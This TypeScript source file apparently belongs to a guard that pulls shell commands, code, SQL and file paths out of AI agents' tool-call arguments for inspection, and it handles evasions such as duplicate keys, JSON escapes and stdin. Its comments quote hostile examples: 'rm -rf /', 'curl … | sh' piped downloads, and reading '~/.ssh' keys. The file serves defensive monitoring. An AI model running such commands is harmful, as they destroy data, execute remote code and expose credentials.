/**
 * Finds what to inspect in a tool call's decoded arguments: command-bearing values (shell
 * strings, argv arrays, interpreter code) and the file paths of file-writing and file-reading
 * tools. Field names follow the tools' own definitions (docs/sources.md "Where commands are
 * found"): Claude Code `Bash {command}`, Gemini
 * `run_shell_command {command}`, OpenHands `execute_bash {command}`, Codex `shell`/`local_shell`
 * `{command: string[]}` (also nested under `action`), Responses `shell_call {commands: string[]}`,
 * file tools `Write`/`Edit`/`create_file`/`str_replace_based_edit_tool {path|file_path}`,
 * `apply_patch` (`*** Add File:` / `*** Update File:` / `*** Move to:` headers, or unified diff).
 */
import type { InspectableCall } from './types.js';
import type { PathAccess } from './rule.js';
import { normalizePath } from './shell/words.js';
import { salvageJsonObject, unescapeJsonText } from './partial-json.js';

/** A command to analyse: shell text, or an argv vector. */
export type CommandValue = { kind: 'text'; text: string } | { kind: 'argv'; argv: string[] };

/** Everything inspectable in one call. */
export interface CallSurfaces {
  commands: CommandValue[];
  paths: PathAccess[];
  /** Raw text to match when nothing decoded (arguments did not parse). */
  raw: string | null;
}

/** Words that name a command in an argument key (`command`, `shell_command`, `cmdLine`, `exec`, `run`). */
const COMMAND_WORDS = new Set(['command', 'commands', 'cmd', 'cmds', 'cmdline', 'commandline', 'script', 'shell', 'bash', 'sh', 'zsh', 'argv', 'exec', 'execute', 'run', 'powershell', 'pwsh']);
/** Words that may qualify a command word in a key without changing what it holds (`cmd_str`,
 * `command_line`, `command_to_run`, `full_command`, `raw_cmd`). */
const COMMAND_QUALIFIERS = new Set(['str', 'string', 'text', 'line', 'value', 'to', 'full', 'raw', 'the', 'os', 'system', 'terminal', 'console', 'input', 'src']);
/** Keys of a command's wrapper object (`{"command": {"value": "rm -rf /"}}`), read as its command. */
const WRAPPER_KEYS = new Set(['value', 'text', 'raw', 'string', 'content', 'source', 'body', 'data', 'input', 'line']);
const commandKeyMemo = new Map<string, boolean>();

/**
 * Whether an argument key holds a command: made only of command words ({@link COMMAND_WORDS}),
 * at least one, and qualifiers ({@link COMMAND_QUALIFIERS}), split at `_`, `-`, `.`, spaces and
 * camelCase humps (`shell_command`, `bash_command`, `cmdline`, `cmd_str`, `commandToRun`, `exec`,
 * `run`). A key naming something about a command (`run_id`, `cmd_timeout`, `script_path`,
 * `shell_type`) is not one.
 */
export function isCommandKey(key: string): boolean {
  let known = commandKeyMemo.get(key);
  if (known !== undefined) return known;
  const words = key
    .replace(/([a-z0-9])([A-Z])/g, '$1_$2')
    .toLowerCase()
    .split(/[\s_.-]+/)
    .filter(Boolean);
  known = words.length > 0 && words.length <= 4 && words.some((w) => COMMAND_WORDS.has(w)) && words.every((w) => COMMAND_WORDS.has(w) || COMMAND_QUALIFIERS.has(w));
  if (commandKeyMemo.size < 4096) commandKeyMemo.set(key, known);
  return known;
}
const CODE_KEYS = new Set(['code', 'source', 'program']);
/** SQL-bearing keys of database tools (MCP postgres/sqlite/mysql servers: `query`, `sql`). */
const SQL_KEYS = new Set(['query', 'sql', 'statement', 'statements']);
const DB_TOOL = /sql|postgres|mysql|maria|sqlite|database|\bdb\b|_db\b|^db_|query|supabase|bigquery|snowflake|redshift|clickhouse|duckdb|neon|planetscale/i;
const PATH_KEYS = new Set(['file_path', 'filepath', 'path', 'filename', 'file', 'target_file', 'notebook_path', 'destination', 'dest', 'target', 'new_path', 'to', 'output_path']);
const CONTENT_KEYS = ['content', 'contents', 'text', 'new_string', 'new_str', 'file_text', 'new_source', 'patch', 'diff', 'input', 'data', 'body'];
const WRITER = /write|edit|create|patch|replace|append|save|insert|update|move|rename|copy|put|mkfile|touch/i;
const READER = /read|view|cat|open|get_?file|show|load|grep|glob|search|find|list|^ls$/i;
/** Tools whose command text is PowerShell (also read as shell text). */
const POWERSHELL = /powershell|pwsh/i;
/** Tools whose command text is cmd.exe's: a backslash there is a path separator, never an escape. */
const CMD_EXE = /^(?:cmd(?:\.exe)?|command_prompt|windows_cmd|run_cmd|cmd_exec)$/i;
/** Keys holding the arguments of a `command`/`program` string (`{"command":"rm","args":["-rf","/"]}`). */
const ARGS_KEYS = ['args', 'arguments', 'argv', 'params'];
const SHELLISH = /shell|bash|exec|terminal|run|command|cmd|sh$|console|process/i;
const MAX_DEPTH = 5;

/**
 * Tool-argument conventions beside the command itself, as data (a new convention is one entry):
 * which keys give the working directory, text fed on stdin, code with its language, a list of
 * commands (strings or argv arrays), or a path pattern a search tool reads. Seen in the tools'
 * definitions: OpenHands/Codex `cwd`/`workdir`, MCP shell servers' `stdin`, Jupyter and code
 * interpreters' `{code, language}`, Responses `shell_call {commands}`, Claude Code `Glob {pattern}`.
 */
export const ARGUMENT_CONVENTIONS = {
  cwd: ['cwd', 'workdir', 'working_directory', 'working_dir', 'directory', 'dir', 'cd'],
  stdin: ['stdin', 'input_text', 'stdin_text'],
  language: ['language', 'lang', 'kernel', 'kernel_name', 'runtime'],
  /** Languages by the names tools give them. */
  languages: [
    { re: /^(?:py|python[0-9.]*|ipython[0-9]*|jupyter|notebook|python_repl|pyodide)$|python/i, argv: ['python3', '-c'] },
    { re: /^(?:js|javascript|node(?:js)?|typescript|ts|deno|bun)$|javascript|\bnode\b/i, argv: ['node', '-e'] },
    { re: /^(?:ruby|rb)$/i, argv: ['ruby', '-e'] },
    { re: /^(?:perl|pl)$/i, argv: ['perl', '-e'] },
    { re: /^(?:php)$/i, argv: ['php', '-r'] },
    { re: /^(?:lua)$/i, argv: ['lua', '-e'] },
    { re: /^(?:powershell|pwsh|ps1?)$/i, argv: ['pwsh', '-Command'] },
  ],
  shellLanguages: /^(?:bash|shell|sh|zsh|terminal|console|cmd|shell_script)$|bash|shell|\bsh\b|zsh|terminal/i,
  /** Keys of a search tool's path pattern (read, like a file path). */
  readPatterns: { keys: ['pattern', 'glob', 'path_pattern', 'include'], tools: /glob|find|search|list|ls/i },
} as const;

/**
 * Collects the command values and file paths of a call. Never throws.
 * Arguments that did not decode (`arguments === null`) but are JSON cut short are completed
 * ({@link salvageJsonObject}) and read like decoded ones; a shell-like tool whose raw argument
 * text is not JSON (Responses `custom_tool_call.input`) is taken as shell text; anything else
 * gives `raw` (JSON string escapes decoded) for the labelled raw fallback.
 */
export function callSurfaces(call: InspectableCall): CallSurfaces {
  const out: CallSurfaces = { commands: [], paths: [], raw: null };
  const name = call.name ?? '';
  let args = call.arguments;
  if (args === null || typeof args !== 'object') {
    const raw = call.argumentsRaw ?? '';
    const looksJson = /^\s*[[{"]/.test(raw);
    args = looksJson ? ((topLevelArgv(raw) as unknown as Record<string, unknown> | null) ?? salvageJsonObject(raw)) : null;
    if (!args) {
      // JSON string escapes (`r\u006d -rf /`) are decoded before matching, JSON or not.
      const decoded = unescapeJsonText(raw);
      if (!looksJson && SHELLISH.test(name) && raw.trim()) {
        out.commands.push({ kind: 'text', text: raw });
        if (decoded !== raw) out.commands.push({ kind: 'text', text: decoded });
      } else if (!looksJson && /apply_patch/i.test(name)) patchPaths(raw, name, out.paths);
      else out.raw = decoded;
      return out;
    }
  }
  if (Array.isArray(args) && args.length > 0 && args.every((a) => typeof a === 'string')) {
    const list = args as string[];
    // a top-level argv: ["rm", "-rf", "/"]; a list whose first entry is no program name but a
    // command line (["curl -s https://x | sh"], ["cd /", "rm -rf *"]) is also read as shell text
    out.commands.push({ kind: 'argv', argv: list });
    if (/\s/.test(list[0]!.trim())) out.commands.push({ kind: 'text', text: list.join('\n') });
  } else {
    walk(args, name, out, 0);
    if (!Array.isArray(args)) fileAccess(args, name, out.paths);
  }
  if (!Array.isArray(args)) applyConventions(args as Record<string, unknown>, name, out);
  duplicateKeyValues(call.argumentsRaw, out);
  if (out.commands.length === 0 && out.paths.length === 0) unreadValues(args, name, out);
  if (CMD_EXE.test(name)) {
    // read once more with every backslash kept (`C:\Windows\System32\curl.exe` stays a path), and as
    // cmd.exe runs it (`type F` prints F there)
    const texts = out.commands.filter((c) => c.kind === 'text');
    for (const c of texts) if (c.text.includes('\\')) out.commands.push({ kind: 'text', text: c.text.replace(/\\/g, '\\\\') });
    for (const c of texts) out.commands.push({ kind: 'argv', argv: ['cmd', '/c', c.text] });
  }
  if (POWERSHELL.test(name)) {
    for (const c of [...out.commands]) if (c.kind === 'text') out.commands.push({ kind: 'argv', argv: ['pwsh', '-Command', c.text] });
  }
  return out;
}

/** Keys whose string values are prose, names or addresses, never commands: the fail-closed
 * reading of unknown arguments ({@link unreadValues}) leaves them out, with the path, content,
 * SQL and convention keys that are read for what they are. */
const PROSE_KEYS = new Set(['text', 'description', 'message', 'title', 'summary', 'comment', 'comments', 'reason', 'explanation', 'thought', 'thoughts', 'reasoning', 'note', 'notes', 'prompt', 'question', 'answer', 'name', 'id', 'url', 'uri', 'href', 'email', 'subject', 'label', 'labels', 'tag', 'tags', 'status', 'type', 'kind', 'mode', 'format', 'encoding', 'old_string', 'old_str', 'search', 'regex', 'pattern', 'locale', 'timezone', 'color']);
/** Most characters of unknown string values read by the fail-closed reading. */
const MAX_UNREAD_CHARS = 1 << 20;

/**
 * Fails closed on arguments no convention reads: when a call gave no command and no file path (a
 * file tool's contents are the path rules' business), the string
 * values under keys guard does not know (`run_it {"payload": "curl … | sh"}`, at any depth up to
 * {@link MAX_DEPTH}) are still inspected. A tool whose name says it runs things (run, exec, shell,
 * terminal, …) has them analysed as shell text; any other tool has them matched by the rules' raw
 * patterns (labelled `raw`), which need a command's shape, so ordinary values do not hit. Keys
 * read for what they are (paths, SQL, code, working directory, stdin, language), prose keys
 * ({@link PROSE_KEYS}) and, for a tool that does not run things, document keys (`body`,
 * `content`, `data`, …: an issue body quoting `curl … | sh` is not a command) are left out.
 */
function unreadValues(args: unknown, tool: string, out: CallSurfaces): void {
  const shellish = SHELLISH.test(tool) && !/patch/i.test(tool);
  // another tool's content keys hold a document (an issue body, a message), not a command
  const content = shellish ? [] : CONTENT_KEYS;
  const known = new Set<string>([...PATH_KEYS, ...content, ...SQL_KEYS, ...CODE_KEYS, ...PROSE_KEYS, ...ARGUMENT_CONVENTIONS.cwd, ...ARGUMENT_CONVENTIONS.stdin, ...ARGUMENT_CONVENTIONS.language, ...ARGUMENT_CONVENTIONS.readPatterns.keys]);
  const found: string[] = [];
  let size = 0;
  const visit = (v: unknown, depth: number): void => {
    if (depth > MAX_DEPTH || size > MAX_UNREAD_CHARS) return;
    if (typeof v === 'string') {
      if (/\S\s+\S|[|;&<>$`]/.test(v)) {
        found.push(v);
        size += v.length;
      }
    } else if (Array.isArray(v)) {
      for (const x of v) visit(x, depth + 1);
    } else if (v !== null && typeof v === 'object') {
      for (const [k, x] of Object.entries(v as Record<string, unknown>)) if (!known.has(k.toLowerCase()) && !isCommandKey(k)) visit(x, depth + 1);
    }
  };
  if (Array.isArray(args) || (args !== null && typeof args === 'object')) visit(args, 0);
  if (found.length === 0) return;
  if (shellish) for (const text of found) out.commands.push({ kind: 'text', text });
  else out.raw = [out.raw, ...found].filter((x): x is string => x !== null).join('\n');
}

/** A raw arguments text that is a JSON array of strings (`["rm","-rf","/"]`), else null. */
function topLevelArgv(raw: string): string[] | null {
  if (!/^\s*\[/.test(raw)) return null;
  try {
    const v: unknown = JSON.parse(raw);
    return Array.isArray(v) && v.length > 0 && v.every((x) => typeof x === 'string') ? (v as string[]) : null;
  } catch {
    return null;
  }
}

/**
 * Command-bearing values the decoded arguments lost: JSON.parse keeps the last of duplicated keys
 * (`{"command":"rm -rf /","command":"ls"}`) while a tool may keep the first, so every string value
 * of a command key in the raw text that is not among the commands already found is added. A
 * lexical scan of the JSON text (strings, `:`), linear in its length.
 */
function duplicateKeyValues(raw: string | null | undefined, out: CallSurfaces): void {
  if (!raw || raw.length > 1 << 20) return;
  // only when two command keys are present (bounded key names keep this linear)
  let keys = 0;
  for (const m of raw.matchAll(/"([\w .-]{1,40})"\s*:/g)) if (isCommandKey(m[1]!) || /^(?:code|input|program)$/i.test(m[1]!)) if (++keys > 1) break;
  if (keys < 2) return;
  const seen = new Set(out.commands.map((c) => (c.kind === 'text' ? c.text : c.argv.join(' '))));
  let key: string | null = null;
  for (const m of raw.matchAll(/"((?:[^"\\]|\\.)*)"\s*(:)?/g)) {
    let text: string;
    try {
      text = JSON.parse(`"${m[1]}"`) as string;
    } catch {
      continue;
    }
    if (m[2]) {
      key = text.toLowerCase();
      continue;
    }
    if (key !== null && isCommandKey(key) && !seen.has(text)) {
      seen.add(text);
      out.commands.push({ kind: 'text', text });
    }
    key = null;
  }
}

/**
 * Collects the command values under command keys ({@link isCommandKey}), database tools'
 * statements and code keys, at any depth up to {@link MAX_DEPTH}. Inside a command key's object
 * (`inCommand`), a wrapper key (`{"command": {"value": "rm -rf /"}}`, {@link WRAPPER_KEYS}) holds
 * the command too.
 */
function walk(value: unknown, tool: string, out: CallSurfaces, depth: number, inCommand = false): void {
  if (depth > MAX_DEPTH || value === null || typeof value !== 'object') return;
  if (Array.isArray(value)) {
    for (const v of value) walk(v, tool, out, depth + 1, inCommand);
    return;
  }
  const obj = value as Record<string, unknown>;
  // {"command": "rm", "args": ["-rf", "/"]}, {"program": "rm", "args": [...]}
  const head = Object.entries(obj).find(([k, v]) => typeof v === 'string' && (isCommandKey(k) || /^(?:program|executable|exe)$/i.test(k)))?.[1] as string | undefined;
  const rest = ARGS_KEYS.map((k) => obj[k]).find((v): v is string[] => Array.isArray(v) && v.every((x) => typeof x === 'string'));
  if (head !== undefined && rest !== undefined) out.commands.push({ kind: 'argv', argv: [head, ...rest] });
  // {"input": "rm -rf /"} on a shell tool with no command key
  if (typeof obj['input'] === 'string' && SHELLISH.test(tool) && !/patch/i.test(tool) && !Object.keys(obj).some((k) => isCommandKey(k))) out.commands.push({ kind: 'text', text: obj['input'] });
  for (const [key, v] of Object.entries(obj)) {
    const k = key.toLowerCase();
    if (isCommandKey(key) || (inCommand && WRAPPER_KEYS.has(k))) {
      if (typeof v === 'string') {
        // str_replace_based_edit_tool's `command` is a verb (view/create/…), not shell.
        if (!(k === 'command' && /^(?:view|create|str_replace|insert|undo_edit)$/.test(v) && ('path' in obj || 'file_path' in obj))) out.commands.push({ kind: 'text', text: v });
      } else if (Array.isArray(v) && v.every((x) => typeof x === 'string')) {
        if (/(?:commands|cmds)$/.test(k)) for (const s of v as string[]) out.commands.push({ kind: 'text', text: s });
        else if (v.length) out.commands.push({ kind: 'argv', argv: v as string[] });
      } else if (Array.isArray(v) && v.length && v.every((x) => Array.isArray(x) && x.length > 0 && x.every((y) => typeof y === 'string'))) {
        // {"commands": [["rm", "-rf", "/"], ["ls"]]}: a list of argv arrays
        for (const a of v as string[][]) out.commands.push({ kind: 'argv', argv: a });
      } else {
        walk(v, tool, out, depth + 1, true);
      }
    } else if (SQL_KEYS.has(k) && typeof v === 'string' && DB_TOOL.test(tool)) {
      // a database tool's statement: read like `psql -c STATEMENT`
      out.commands.push({ kind: 'argv', argv: ['sql', '-c', v] });
    } else if (CODE_KEYS.has(k) && typeof v === 'string') {
      const named = ARGUMENT_CONVENTIONS.language.map((l) => obj[l]).find((x): x is string => typeof x === 'string');
      const lang = String(named ?? tool).toLowerCase().trim();
      const entry = ARGUMENT_CONVENTIONS.languages.find((l) => l.re.test(lang));
      if (entry) out.commands.push({ kind: 'argv', argv: [...entry.argv, v] });
      else if (ARGUMENT_CONVENTIONS.shellLanguages.test(lang)) out.commands.push({ kind: 'text', text: v });
    } else if (typeof v === 'object') {
      walk(v, tool, out, depth + 1);
    }
  }
}

/** A file tool's path, normalised: Windows separators to `/`, the home directory (`$HOME`,
 * `${HOME}`, `%USERPROFILE%`, `$env:USERPROFILE`, `C:\Users\NAME`) to `~`. Also applied to the
 * Windows spellings of paths shell commands read (`type C:\Users\bob\.ssh\id_rsa` in a cmd tool). */
export function toolPath(p: string): string {
  let path = p.trim();
  if (path.includes('\\')) path = path.replace(/\\/g, '/');
  path = path.replace(/^(?:\$HOME|\$\{HOME\}|%USERPROFILE%|\$env:USERPROFILE|~|[A-Za-z]:\/Users\/[^/]+)(?=\/|$)/i, '~');
  return normalizePath(path);
}

function fileAccess(args: Record<string, unknown>, tool: string, paths: PathAccess[]): void {
  const content = CONTENT_KEYS.map((k) => args[k]).find((v): v is string => typeof v === 'string') ?? null;
  const verb = typeof args['command'] === 'string' ? (args['command'] as string) : '';
  const writes = /^(?:create|str_replace|insert|undo_edit|write|append)$/.test(verb) || (verb !== 'view' && (WRITER.test(tool) || (content !== null && CONTENT_KEYS.slice(0, 7).some((k) => k in args))));
  const reads = verb === 'view' || (!writes && READER.test(tool));
  if (writes || reads) {
    for (const [key, v] of Object.entries(args)) {
      if (PATH_KEYS.has(key.toLowerCase()) && typeof v === 'string' && v.trim()) {
        paths.push({ path: toolPath(v), mode: writes ? 'write' : 'read', content, tool });
      }
    }
  }
  for (const v of [args['patch'], args['input'], args['diff']]) if (typeof v === 'string' && (/apply_patch|patch/i.test(tool) || /^\*\*\* Begin Patch/m.test(v))) patchPaths(v, tool, paths);
  // Responses apply_patch_call: {operation: {type, path, diff}}
  const op = args['operation'];
  if (op && typeof op === 'object' && !Array.isArray(op)) {
    const o = op as Record<string, unknown>;
    if (typeof o['path'] === 'string' && o['type'] !== 'delete_file') paths.push({ path: toolPath(o['path']), mode: 'write', content: typeof o['diff'] === 'string' ? o['diff'] : null, tool });
  }
}

/** Paths a patch writes: `*** Add File:`, `*** Update File:`, `*** Move to:` (Codex apply_patch
 * grammar) and `+++ b/…` (unified diff). */
export function patchPaths(patch: string, tool: string, paths: PathAccess[]): void {
  for (const m of patch.matchAll(/^\*\*\* (?:Add File|Update File|Move to): (.+)$|^\+\+\+ (?:b\/)?(.+?)(?:\t.*)?$/gm)) {
    const p = (m[1] ?? m[2] ?? '').trim();
    if (p && p !== '/dev/null') paths.push({ path: toolPath(p), mode: 'write', content: patch, tool });
  }
}

/** A string value of the first of `keys` present in `obj` (case-insensitive keys). */
function firstString(obj: Record<string, unknown>, keys: readonly string[]): string | null {
  for (const [k, v] of Object.entries(obj)) if (keys.includes(k.toLowerCase()) && typeof v === 'string' && v.trim()) return v;
  return null;
}

/**
 * Applies the {@link ARGUMENT_CONVENTIONS} that change how the commands found run: a working
 * directory (`{"command": "rm -rf *", "cwd": "/"}` runs as `cd / && rm -rf *`), text on stdin
 * (`{"command": "bash", "stdin": "rm -rf /"}` runs as `bash <<'EOF' … EOF`), and a search tool's
 * path pattern read like a path (`Glob {"pattern": "~/.ssh/*"}`; the directory in front of the
 * first glob character is read too).
 */
function applyConventions(obj: Record<string, unknown>, tool: string, out: CallSurfaces): void {
  const cwd = firstString(obj, ARGUMENT_CONVENTIONS.cwd);
  const stdin = firstString(obj, ARGUMENT_CONVENTIONS.stdin);
  if (cwd !== null || stdin !== null) {
    const quoteWord = (a: string) => (/^[\w@%+=:,./~-]+$/.test(a) ? a : `'${a.replace(/'/g, `'\\''`)}'`);
    const added: CommandValue[] = [];
    for (const c of out.commands) {
      let text = c.kind === 'text' ? c.text : c.argv.map(quoteWord).join(' ');
      if (stdin !== null) {
        let tag = 'GUARD_STDIN';
        while (stdin.includes(tag)) tag += '_';
        text = `${text} <<'${tag}'\n${stdin}\n${tag}`;
      }
      if (cwd !== null) text = `cd ${quoteWord(cwd)} && ${text}`;
      added.push({ kind: 'text', text });
    }
    out.commands.push(...added);
  }
  const rp = ARGUMENT_CONVENTIONS.readPatterns;
  if (rp.tools.test(tool)) {
    for (const [k, v] of Object.entries(obj)) {
      if (!rp.keys.includes(k.toLowerCase() as never) || typeof v !== 'string' || !v.trim()) continue;
      const base = typeof obj['path'] === 'string' && !/^[~/]/.test(v) ? `${obj['path']}/${v}` : v;
      const p = toolPath(base);
      out.paths.push({ path: p, mode: 'read', content: null, tool });
      const dir = p.replace(/\/?[^/]*[*?[{][\s\S]*$/, '');
      if (dir && dir !== p) out.paths.push({ path: dir, mode: 'read', content: null, tool });
    }
  }
}
